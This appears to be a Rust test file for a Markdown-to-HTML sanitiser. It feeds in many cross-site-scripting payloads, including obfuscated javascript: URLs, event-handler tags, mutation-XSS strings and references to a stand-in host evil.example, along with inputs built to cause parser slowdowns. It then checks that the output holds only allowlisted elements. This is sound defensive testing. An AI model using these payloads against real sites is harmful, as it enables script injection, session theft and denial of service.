//! What Markdown becomes, and what a hostile author does not get out of it.

use super::*;
use std::time::{Duration, Instant};

#[test]
fn scripts_raw_html_and_dangerous_links_do_not_survive() {
    let hostile = "<script>alert(1)</script> [a](javascript:alert(1)) [b](data:text/html,x) <img src=x onerror=alert(1)> \
        <svg onload=alert(1)>";
    let html = to_html(hostile).to_lowercase();
    for trace in ["<script", "javascript:", "data:", "onerror", "onload", "<svg", "<img"] {
        assert!(!html.contains(trace), "{trace} in {html}");
    }
}

#[test]
fn a_picture_is_a_link_to_itself_unless_it_is_in_one() {
    let html = to_html("![Settings](https://studio.example/a.png)");
    assert!(html.contains("<a href=\"https://studio.example/a.png\""), "{html}");
    assert!(html.contains("alt=\"Settings\"") && html.contains("loading=\"lazy\""), "{html}");
    let html = to_html("[![Settings](https://studio.example/a.png)](https://studio.example/b)");
    assert_eq!(html.matches("<a ").count(), 1, "{html}");
    assert!(html.contains("href=\"https://studio.example/b\""), "{html}");
}

#[test]
fn tables_that_keys_can_scroll_and_lists_are_rendered() {
    let html = to_html("| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n");
    assert!(html.contains("<table tabindex=\"0\">") && html.contains("<ol>"), "{html}");
    assert_harmless(&html);
}

#[test]
fn text_is_the_words_alone() {
    assert_eq!(to_text("# Hi\n\n* **one**, `CE-7001`\n* two"), "Hi one, CE-7001 two");
}

#[test]
fn a_harmful_element_is_seen_by_these_tests() {
    for harmful in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\" java\tscript:x\">",
        "<img src=\"data:x\">",
        "<p style=\"x\">",
        "<svg>",
    ] {
        assert!(std::panic::catch_unwind(|| assert_harmless(harmful)).is_err(), "{harmful}");
    }
    assert_harmless("<p><a href=\"/x:y\" rel=\"nofollow\">1 &lt; 2</a></p>");
}

#[test]
fn no_spelling_of_a_dangerous_address_survives() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "java\tscript:alert(1)",
        "&#1;javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "\u{a0}javascript:alert(1)",
        "javascript\\:alert(1)",
        "javascript://%0aalert(1)",
        "%6Aavascript:alert(1)",
        "vbscript:msgbox(1)",
        "livescript:x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "DATA:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
        "blob:https://studio.example/1",
        "file:///etc/passwd",
        "filesystem:x",
        "view-source:x",
        "intent://x#Intent;end",
        "ms-settings:x",
        "tel:112",
        "jar:x",
    ] {
        for markdown in [
            format!("[a]({address})"),
            format!("[a](<{address}>)"),
            format!("[a](<{address}> \"title\")"),
            format!("![a]({address})"),
            format!("[![a]({address})]({address})"),
            format!("<{address}>"),
            format!("[a]\n\n[a]: {address}"),
            format!("[a]\n\n[a]: <{address}>"),
            format!("<a href=\"{address}\">a</a>"),
            format!("> - **[a]({address})**"),
        ] {
            assert_harmless(&to_html(&markdown));
        }
    }
}

#[test]
fn no_html_of_an_author_survives() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=alert(1)//",
        "<img\nsrc=x\nonerror=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x></object><embed src=x><applet>",
        "<form action=//evil.example><input name=csrf><button formaction=javascript:alert(1)>",
        "<style>*{background:url(//evil.example)}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<div style=position:fixed id=content class=top>",
        "<a href=javascript:alert(1) target=_top>a</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea></textarea><script>alert(1)</script>",
        "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml <script>alert(1)</script> ?>",
        "</article></main></html><script>alert(1)</script>",
        "<p><b><i></p></b></i><table><tr><td></table></td>",
        "<<script>alert(1)//<</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        "\u{0}<script\u{0}>alert(1)</script>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<custom-element onfocus=alert(1) tabindex=0 autofocus>",
    ] {
        let contexts = [
            html.to_owned(),
            format!("words {html} words"),
            format!("> - {html}\n"),
            format!("# {html}"),
            format!("|a|\n|-|\n|{html}|"),
            format!("[{html}](https://studio.example/)"),
            format!("![{html}](https://studio.example/a.png \"{html}\")"),
            format!("`{html}`"),
            format!("```{html}\n{html}\n```"),
            format!("    {html}"),
            format!("**{html}** ~~{html}~~"),
            format!("[{html}]: https://studio.example/ '{html}'\n\n[{html}]"),
        ];
        for markdown in contexts {
            assert_harmless(&to_html(&markdown));
        }
    }
}

/// What a text of this many bytes is made of again and again.
fn filled(piece: &str, bytes: usize) -> String {
    piece.repeat(bytes / piece.len())
}

const MEGABYTE: usize = 1_000_000;

/// Texts that parsers of Markdown and of HTML are slow on where they are careless. The last ones are as long as a FAQ may
/// be; the others ten times that.
fn slow() -> Vec<(&'static str, String)> {
    let half = |before: &str, after: &str| filled(before, MEGABYTE / 2) + &filled(after, MEGABYTE / 2);
    let columns = 10_000;
    let wide = format!("{}|\n{}|\n{}", "|a".repeat(columns), "|-".repeat(columns), filled("|b\n", MEGABYTE));
    vec![
        ("brackets", filled("[", MEGABYTE)),
        ("stars", filled("*", MEGABYTE)),
        ("open emphasis", filled("*a ", MEGABYTE)),
        ("emphasis", filled("a*", MEGABYTE)),
        ("quotes", filled(">", MEGABYTE)),
        ("spaced quotes", filled("> ", MEGABYTE)),
        ("lists", filled("- ", MEGABYTE)),
        ("lists with a word", filled("- ", MEGABYTE) + "a"),
        ("lists of two kinds", filled("* + ", MEGABYTE)),
        ("numbered lists", filled("1. ", MEGABYTE)),
        ("quotes before empty lines", half("> ", "\n")),
        ("lists before empty lines", filled("- ", MEGABYTE / 2) + "a" + &filled("\n", MEGABYTE / 2)),
        ("emphasis in emphasis", half("*a **a ", "** a*")),
        ("lines struck in lines struck", half("~a ", " a~")),
        ("pictures in pictures", half("![", "](b)")),
        ("open pictures", filled("![", MEGABYTE / 10)),
        ("open links", filled("[a](", MEGABYTE)),
        ("open tags", filled("<a ", MEGABYTE)),
        ("open comments", filled("<!--", MEGABYTE)),
        ("a reference to much", format!("[a]: /{}\n\n{}", filled("b", MEGABYTE / 2), filled("[a]", MEGABYTE / 2))),
        ("a table of many columns", wide),
        ("ampersands", filled("&", MEGABYTE / 10)),
        ("half entities", filled("&#x", MEGABYTE / 10)),
    ]
}

/// How much longer than ordinary Markdown a hostile text may take. What is quadratic takes thousands of times as long.
const TIMES_AS_LONG_MAX: u32 = 100;

#[test]
fn no_text_takes_much_longer_than_an_ordinary_one_or_becomes_much_more() {
    let ordinary = filled("Some *words* of a [link](/a), `code` & **more**.\n\n* one\n* two\n\n", MEGABYTE);
    let ordinary = took(&ordinary);
    for (what, markdown) in slow() {
        let took = took(&markdown);
        assert!(took < ordinary * TIMES_AS_LONG_MAX, "{what}: {took:?}, and {ordinary:?} for ordinary words");
    }
}

fn took(markdown: &str) -> Duration {
    let began = Instant::now();
    let html = to_html(markdown);
    let took = began.elapsed();
    assert_harmless(&html);
    assert!(html.len() < 32 * MEGABYTE, "{}", html.len());
    let text = to_text(markdown);
    assert!(text.len() < 2 * MEGABYTE, "{}", text.len());
    took
}

#[test]
fn what_is_nested_too_deeply_keeps_its_words() {
    for mark in ["> ", "- ", "1. ", "* + "] {
        let nested = |depth: usize| to_html(&format!("{}deep\n\nafter", mark.repeat(depth)));
        for depth in [1, MARKDOWN_DEPTH_MAX / 4, MARKDOWN_DEPTH_MAX, 10 * MARKDOWN_DEPTH_MAX] {
            let html = nested(depth);
            assert!(html.contains("deep") && html.contains("after"), "{mark}{depth}: {html}");
            assert!(depth_of(&html) <= MARKDOWN_DEPTH_MAX + 1, "{mark}{depth}");
        }
    }
    let quoted = to_html(&format!("{}deep", "> ".repeat(MARKDOWN_DEPTH_MAX - 1)));
    assert_eq!(quoted.matches("<blockquote>").count(), MARKDOWN_DEPTH_MAX - 1);
}

const ELEMENTS: &str =
    "p h1 h2 h3 h4 h5 h6 em strong del blockquote ul ol li pre code hr br a img table thead tbody tr th td";
const ATTRIBUTES: &str = "href title rel src alt loading start align tabindex";
const SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Every element, attribute and address is one of a few that can do nothing.
#[track_caller]
fn assert_harmless(html: &str) {
    for tag in tags(html) {
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(ELEMENTS.split(' ').any(|element| element == name.trim_start_matches('/')), "<{tag}>");
        for (attribute, value) in pairs(attributes) {
            assert!(ATTRIBUTES.split(' ').any(|known| known == attribute), "<{tag}>");
            if matches!(attribute, "href" | "src") {
                assert!(scheme(value).is_none_or(|scheme| SCHEMES.contains(&scheme.as_str())), "<{tag}>");
            }
        }
    }
}

/// What stands between `<` and `>`: the cleaner escapes both in texts, and writes every attribute in quotes.
fn tags(html: &str) -> Vec<&str> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let mut is_quoted = false;
        let end = after.find(|character| {
            is_quoted ^= character == '"';
            character == '>' && !is_quoted
        });
        let (tag, after) = after.split_at(end.unwrap());
        tags.push(tag);
        rest = after;
    }
    tags
}

fn pairs(attributes: &str) -> impl Iterator<Item = (&str, &str)> {
    let parts: Vec<&str> = attributes.split('"').collect();
    let pairs = parts.chunks_exact(2).map(|pair| (pair[0].trim().trim_end_matches('='), pair[1]));
    pairs.collect::<Vec<_>>().into_iter()
}

/// The scheme of an address as a browser reads it: without white space and control characters; none where it is relative.
fn scheme(address: &str) -> Option<String> {
    let address: String = address.chars().filter(|character| *character > ' ').collect();
    let (scheme, _) = address.split_once(':')?;
    let is_scheme = scheme.chars().all(|character| character.is_ascii_alphanumeric() || "+-.".contains(character));
    is_scheme.then(|| scheme.to_ascii_lowercase())
}

/// How many elements are open at once, at most.
fn depth_of(html: &str) -> usize {
    let mut depth = 0_usize;
    let mut deepest = 0;
    for tag in tags(html) {
        let name = tag.split(' ').next().unwrap();
        match name {
            "br" | "hr" | "img" => {}
            _ if name.starts_with('/') => depth -= 1,
            _ => depth += 1,
        }
        deepest = deepest.max(depth);
    }
    deepest
}
